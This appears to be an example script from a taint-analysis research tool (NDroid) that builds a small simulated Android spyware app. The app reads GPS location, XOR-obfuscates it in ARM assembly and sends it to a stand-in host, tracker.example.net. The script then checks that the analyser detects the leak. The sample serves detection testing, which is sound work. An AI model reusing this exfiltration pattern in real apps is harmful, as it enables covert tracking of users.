@@ -1,0 +1,113 @@
+#!/usr/bin/env python3
+"""Author and analyze your own app with the public API.
+
+Shows the full workflow a downstream user follows to test an app against
+NDroid: write Dalvik bytecode with :class:`MethodBuilder`, write the
+native half in ARM assembly (calling JNI through the env table and libc
+through its symbols), bundle both into an :class:`Apk`, and run it on an
+instrumented platform.
+
+The example app is a little spyware: it reads the GPS location, passes it
+to native code, which XOR-"encrypts" it byte by byte (pure ARM
+arithmetic — only the instruction tracer can follow this) and sends the
+ciphertext out.
+
+Run:  python examples/analyze_custom_app.py
+"""
+
+import os
+import sys
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "src"))
+
+from repro.core import NDroid
+from repro.dalvik import ClassDef, MethodBuilder
+from repro.framework import AndroidPlatform, Apk
+from repro.jni import jni_offset
+
+
+def build_app() -> Apk:
+    cls = ClassDef("Lcom/example/Spy;")
+    cls.add_method(MethodBuilder(cls.name, "beam", "VL", static=True,
+                                 native=True).build())
+
+    main = MethodBuilder(cls.name, "main", "V", static=True, registers=3)
+    main.const_string(0, "libspy.so")
+    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
+    main.invoke_static(
+        "Landroid/location/LocationManager;->getLastKnownLocation")
+    main.move_result_object(1)
+    main.invoke_static(f"{cls.name}->beam", 1)
+    main.ret_void()
+    cls.add_method(main.build())
+
+    native = f"""
+    Java_com_example_Spy_beam:        ; (env, jclass, jstring location)
+        push {{r4, r5, r6, r7, lr}}
+        mov r4, r0
+        ; chars = GetStringUTFChars(env, location, NULL)
+        ldr ip, [r4]
+        ldr ip, [ip, #{jni_offset('GetStringUTFChars')}]
+        mov r1, r2
+        mov r2, #0
+        blx ip
+        mov r5, r0
+        ; n = strlen(chars)
+        ldr ip, =strlen
+        blx ip
+        mov r7, r0
+        ; XOR-encrypt in place: the flow survives pure arithmetic
+        mov r2, #0
+    xor_loop:
+        cmp r2, r7
+        bge xor_done
+        ldrb r3, [r5, r2]
+        eor r3, r3, #0x5A
+        strb r3, [r5, r2]
+        add r2, r2, #1
+        b xor_loop
+    xor_done:
+        ; fd = socket(2, 1); connect; send(fd, chars, n, 0)
+        mov r0, #2
+        mov r1, #1
+        ldr ip, =socket
+        blx ip
+        mov r6, r0
+        ldr r1, =dest
+        ldr ip, =connect
+        blx ip
+        mov r0, r6
+        mov r1, r5
+        mov r2, r7
+        mov r3, #0
+        ldr ip, =send
+        blx ip
+        pop {{r4, r5, r6, r7, pc}}
+    dest:
+        .asciz "tracker.example.net:9090"
+    """
+    return Apk(package="com.example.spy", classes=[cls],
+               native_libraries={"libspy.so": native},
+               load_library_calls=["libspy.so"])
+
+
+def main():
+    platform = AndroidPlatform()
+    NDroid.attach(platform)
+    apk = build_app()
+    platform.install(apk)
+    platform.run_app(apk)
+
+    print("what reached tracker.example.net:")
+    for transmission in platform.kernel.network.transmissions_to(
+            "tracker.example.net"):
+        print(f"  ciphertext: {transmission.payload!r}")
+    print("\ndetected leaks:")
+    print(platform.leaks.summary())
+    assert platform.leaks.records, "NDroid should flag the encrypted leak"
+    print("\nOK: the taint survived the native XOR loop — the instruction "
+          "tracer followed it.")
+
+
+if __name__ == "__main__":
+    main()
